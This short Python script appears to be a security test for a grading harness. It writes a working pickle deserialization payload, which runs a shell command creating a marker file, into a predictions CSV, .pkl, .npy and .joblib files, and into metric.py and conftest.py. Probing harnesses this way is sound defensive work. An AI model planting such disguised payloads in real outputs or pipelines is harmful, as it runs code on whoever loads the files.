"""Gives a pickle that runs code as predictions.csv, with a matching .pkl, .npy and .joblib."""

import os

from hostile import OUT, PREDICTIONS, say

payload = b"cos\nsystem\n(S'touch /tmp/palio-owned'\ntR."
for name in (
    "predictions.pkl",
    "predictions.npy",
    "predictions.joblib",
    "metric.py",
    "conftest.py",
):
    with open(f"{OUT}/{name}", "wb") as file:
        file.write(payload)
with open(PREDICTIONS, "wb") as file:
    file.write(payload)
os.chmod(PREDICTIONS, 0o777)
say("contained", "pickle offered")
